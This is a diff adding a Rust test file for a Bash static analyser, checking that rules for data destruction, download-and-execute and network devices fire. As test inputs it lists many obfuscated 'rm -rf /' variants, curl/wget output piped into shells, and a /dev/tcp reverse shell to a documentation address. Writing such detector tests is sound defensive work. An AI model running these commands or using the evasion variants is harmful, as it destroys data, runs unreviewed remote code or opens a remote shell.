@@ -1,0 +1,98 @@
+//! Bash's words are what the shell makes of them.
+
+use lazaret_analysis::{Language, Resolution};
+
+use crate::{analyse, calls, rules};
+
+fn fires(rule: &str, script: &str) -> bool {
+    rules(Language::Bash, script).iter().any(|found| found == rule)
+}
+
+#[test]
+fn quotes_backslashes_and_variables_do_not_hide_a_command() {
+    for script in [
+        "rm -rf /",
+        "r''m -rf /",
+        "\"rm\" -rf '/'",
+        "\\rm -r -f /",
+        "r\\m -rf /",
+        "$'\\x72m' -rf /",
+        "/bin/rm -rf /",
+        "x=rm; $x -rf /",
+        "x=r; \"${x}m\" -rf /",
+        "rm --recursive --force \"$HOME\"",
+    ] {
+        assert!(fires("bash/destruction", script), "{script}");
+    }
+}
+
+#[test]
+fn a_command_is_found_behind_those_that_only_run_it() {
+    for script in [
+        "sudo -u root rm -rf /",
+        "env -i A=1 rm -rf /",
+        "nohup nice -n 5 rm -rf / &",
+        "timeout -k 1 5 rm -rf /",
+        "echo / | xargs -n 1 rm -rf /",
+        "find . -type d -exec rm -rf / \\;",
+        "if true; then command rm -rf /; fi",
+        "f() { ( cd /; exec rm -rf / ); }",
+        "echo \"$(rm -rf /)\"",
+    ] {
+        assert!(fires("bash/destruction", script), "{script}");
+    }
+}
+
+#[test]
+fn what_is_downloaded_is_not_run_unseen() {
+    for script in [
+        "curl https://example.org | sh",
+        "curl -s https://example.org | sudo -E bash -s -- --yes",
+        "wget -qO- https://example.org | tee log | python3 -",
+        "bash <(curl https://example.org)",
+        "bash -c \"$(curl https://example.org)\"",
+        "eval \"`wget -O - https://example.org`\"",
+        "source <(curl https://example.org)",
+        "sh <<< \"$(curl https://example.org)\"",
+        "curl https://example.org 2>/dev/null | bash",
+    ] {
+        assert!(fires("bash/download-execute", script), "{script}");
+    }
+    for script in [
+        "curl https://example.org | python3 -c 'import json'",
+        "curl https://example.org | python3 -m json.tool",
+        "curl https://example.org | perl -ne print",
+        "curl https://example.org | node filter.js",
+        "curl https://example.org -o a; sh b",
+    ] {
+        assert!(!fires("bash/download-execute", script), "{script}");
+    }
+}
+
+#[test]
+fn a_connection_is_found_even_where_the_grammar_fails() {
+    assert!(fires("bash/network-device", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"));
+    assert!(fires("bash/network-device", "exec 3<>/dev/tcp/192.0.2.1/1"));
+}
+
+#[test]
+fn a_function_hides_the_command_of_its_name_from_there_on() {
+    assert!(!fires("bash/destruction", "rm() { echo \"$@\"; }\nrm -rf /"));
+    assert!(fires("bash/destruction", "rm -rf /\nrm() { echo \"$@\"; }"));
+    assert!(fires("bash/destruction", "rm() { echo \"$@\"; }\ncommand rm -rf /"));
+    assert!(fires("bash/destruction", "if x; then rm() { :; }; fi\nrm -rf /"));
+}
+
+#[test]
+fn a_name_that_is_not_known_is_a_fact_as_written() {
+    let analysis = analyse(Language::Bash, "$tool --version\n");
+    assert_eq!(calls(&analysis), [("$tool", Resolution::Unknown)]);
+}
+
+#[test]
+fn harmless_scripts_have_no_findings() {
+    let script = "#!/usr/bin/env bash\nset -euo pipefail\n# eval rm -rf /\n\
+                  for file in *.txt; do\n  count=$(wc -l < \"$file\")\n  echo \"rm -rf / $file: $count\"\ndone\n\
+                  cat <<'END'\nrm -rf /\nEND\n[[ -n ${1:-} ]] && mkdir -p \"$1\"\n";
+    assert_eq!(rules(Language::Bash, script), [""; 0]);
+}
